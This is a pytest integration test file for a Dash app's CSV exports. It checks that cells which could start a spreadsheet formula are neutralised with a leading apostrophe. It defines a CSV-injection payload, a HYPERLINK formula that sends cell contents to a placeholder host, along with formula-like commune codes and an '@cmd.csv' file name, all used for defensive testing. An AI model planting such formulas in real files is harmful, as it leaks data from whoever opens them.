"""The CSV files the pages offer (the methods page's sources, the editor's list of communes) cannot
carry a spreadsheet formula: every cell that could start one gets a leading apostrophe
(``dashboard.exports.csv_export.neutralise``), whatever an import's label or file name or a
request's codes hold. Driven through the app's callbacks, as the browser does."""
from __future__ import annotations

import base64
import csv
import io
import json

import pytest

import callback_payloads as cp

pytestmark = pytest.mark.integration

EVIL = '=HYPERLINK("http://example.invalid/?"&A1;"cliquez")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def client(dash_app, user_dir):
    c = dash_app.server.test_client()
    assert c.get("/").status_code == 200
    return c


def _download(client, dash_app, output: str, trigger: str, values: dict) -> tuple[str, list[list[str]]]:
    key, cb = next((k, cb) for k, cb in cp.server_callbacks(dash_app).items() if k == output)
    deps = list(cb["inputs"]) + list(cb.get("state") or [])
    vals = [values.get(f"{d['id']}.{d['property']}", 1 if d["id"] == trigger else None) for d in deps]
    trig = next(i for i, d in enumerate(cb["inputs"]) if d["id"] == trigger)
    r = client.post("/_dash-update-component", data=json.dumps(cp.body(key, cb, vals, trigger=trig)),
                    content_type="application/json")
    assert r.status_code == 200, r.data[:300]
    data = r.get_json()["response"][output.split(".")[0]]["data"]
    text = base64.b64decode(data["content"]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    return text, [row for row in rows if row and not row[0].startswith("#")]


def _no_formula(rows) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def test_methods_sources_csv_neutralises_an_import_label_and_file_name(client, dash_app, atlas, user_dir, tmp_path):
    from atlas.userdata.imports import import_indicator_table

    code = sorted(atlas.territory("aunis-sud").codes)[0]
    src = tmp_path / "cpam.csv"
    src.write_text("code_commune;indicateur;annee;numerateur;denominateur;valeur;source\n"
                   f'{code};sans_mt_17;2024;80;800;10,0;"{EVIL.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    report = import_indicator_table(src, atlas.valid_codes, original_name="@cmd.csv", source_label=EVIL)
    assert report.ok, report.text()
    _, rows = _download(client, dash_app, "methods-download.data", "methods-export-sources", {})
    _no_formula(rows)
    assert any(cell == "'" + EVIL for row in rows for cell in row), "the label is in the file, neutralised"


def test_editor_csv_keeps_only_known_communes_and_neutralises(client, dash_app, atlas):
    codes = sorted(atlas.territory("aunis-sud").codes)[:2]
    _, rows = _download(client, dash_app, "editor-download.data", "editor-export-csv",
                           {"editor-codes.data": [*codes, "=1+1", "@SUM(A1)", "-2"], "editor-name.value": EVIL})
    assert rows[0] == ["code", "nom"]
    assert [r[0] for r in rows[1:]] == codes
    _no_formula(rows)
